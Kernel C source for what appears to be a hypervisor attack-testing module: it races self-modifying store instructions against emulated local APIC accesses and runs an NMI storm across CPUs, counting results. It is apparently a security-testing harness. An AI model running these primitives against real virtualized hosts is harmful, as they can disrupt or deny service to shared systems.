/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause-Patent */
/*
 * What goes on meanwhile.
 *
 *	apicrace N CPU OFFSET	N stores to the local APIC's register at OFFSET by an instruction that another CPU keeps changing; the text counts those done
 *	nmistorm CPUS		from here on an NMI after the other to CPUs 0..CPUS-1; 0: no more, value = sent, the text is those taken
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kdebug.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>
#include <asm/apicdef.h>
#include <asm/nmi.h>
#include "attack.h"

static void __iomem *apic;

/* ------------------------------------------------------------------ changing code */

static u64 *code;
static int code_trap;

/*
 * Each fits in 8 bytes, which are written at once. RCX is where, EAX what. The CPU goes on as many bytes behind as the instruction had that
 * the hypervisor saw: whatever is there by then returns.
 */
#define RET 0xc3
static const u8 variant[][8] = {
	{ 0x89, 0x01, RET, RET, RET, RET, RET, RET },       /* mov %eax, (%rcx) */
	{ 0x87, 0x01, RET, RET, RET, RET, RET, RET },       /* xchg %eax, (%rcx) */
	{ 0xc7, 0x01, RET, RET, RET, RET, RET, RET },       /* movl $0xc3c3c3c3, (%rcx) */
	{ 0x09, 0x01, RET, RET, RET, RET, RET, RET },       /* or %eax, (%rcx): no form that is listed */
	{ 0x88, 0x01, RET, RET, RET, RET, RET, RET },       /* mov %al, (%rcx): no size that is */
};

static int refused_store(struct notifier_block *nb, unsigned long val, void *data)
{
	struct die_args *args = data;
	struct pt_regs *regs = args->regs;

	if (val != DIE_GPF || !code || regs->ip != (unsigned long)code)
		return NOTIFY_DONE;
	code_trap = args->trapnr;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += sizeof(unsigned long);
	return NOTIFY_STOP;
}

static struct notifier_block die_block = { .notifier_call = refused_store, .priority = INT_MAX };

static int patcher(void *unused)
{
	unsigned int n = 0;

	while (!kthread_should_stop()) {
		u64 insn;

		memcpy(&insn, variant[n++ % ARRAY_SIZE(variant)], sizeof(insn));
		WRITE_ONCE(*code, insn);
		if (n % 8 == 0)
			cond_resched();
	}
	return 0;
}

static int race(struct attack *a, const u64 *arg)
{
	struct task_struct *thread;
	u64 i, done = 0;

	memcpy(code, variant[0], sizeof(*code));
	thread = kthread_create(patcher, NULL, "apicrace");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	kthread_bind(thread, arg[1]);
	wake_up_process(thread);
	for (i = 0; i < arg[0]; i++) {
		u64 value = 0x0e000000;

		code_trap = -1;
		asm volatile("call *%[code]" : "+a" (value) : [code] "r" (code), "c" (apic + arg[2]) : "memory");
		attack_note(a, READ_ONCE(code_trap));
		done += code_trap < 0;
		cond_resched();
	}
	kthread_stop(thread);
	attack_say(a, "done=%llu\n", done);
	return 0;
}

static int apicrace(struct attack *a, const u64 *arg)
{
	unsigned long page = get_zeroed_page(GFP_KERNEL);
	u64 *p = page ? attack_map(page_to_pfn(virt_to_page((void *)page)), 1) : NULL;
	int err = -ENOMEM;

	if (p && attack_make_executable(p)) {
		code = p;
		err = race(a, arg);
		code = NULL;
	}
	if (p)
		vunmap(p);
	free_page(page);
	return err;
}

/* ------------------------------------------------------------------ NMIs */

static struct task_struct *storm;
static u64 sent;
static atomic_t taken;

static int nmi_taken(unsigned int type, struct pt_regs *regs)
{
	atomic_inc(&taken);
	return NMI_HANDLED;
}

static int send_nmis(void *cpus)
{
	while (!kthread_should_stop()) {
		unsigned int cpu;

		for (cpu = 0; cpu < (unsigned long)cpus; cpu++) {
			unsigned long flags;

			/* On this machine a CPU's number is its APIC's. */
			local_irq_save(flags);
			writel(SET_XAPIC_DEST_FIELD(cpu), apic + APIC_ICR2);
			writel(APIC_DM_NMI | APIC_INT_ASSERT, apic + APIC_ICR);
			local_irq_restore(flags);
			sent++;
		}
		usleep_range(500, 1000);
	}
	return 0;
}

static int nmistorm(struct attack *a, u64 cpus)
{
	struct task_struct *thread = NULL;

	if (storm)
		kthread_stop(storm);
	storm = NULL;
	attack_note(a, -1);
	a->value = sent;
	attack_say(a, "%d\n", atomic_read(&taken));
	if (!cpus)
		return 0;
	thread = kthread_run(send_nmis, (void *)(unsigned long)cpus, "nmistorm");
	if (IS_ERR(thread))
		return PTR_ERR(thread);
	storm = thread;
	return 0;
}

int attack_race(struct attack *a, const char *op, const u64 *arg, int nr)
{
	if (!strcmp(op, "apicrace"))
		return nr == 3 && arg[2] < PAGE_SIZE ? apicrace(a, arg) : -EINVAL;
	if (!strcmp(op, "nmistorm"))
		return nr == 1 ? nmistorm(a, arg[0]) : -EINVAL;
	return -ENOENT;
}

int attack_race_init(void)
{
	apic = ioremap(APIC_DEFAULT_PHYS_BASE, PAGE_SIZE);
	if (!apic)
		return -ENOMEM;
	register_die_notifier(&die_block);
	return register_nmi_handler(NMI_UNKNOWN, nmi_taken, 0, "host_attack");
}

void attack_race_exit(void)
{
	if (storm)
		kthread_stop(storm);
	unregister_nmi_handler(NMI_UNKNOWN, "host_attack");
	unregister_die_notifier(&die_block);
	iounmap(apic);
}
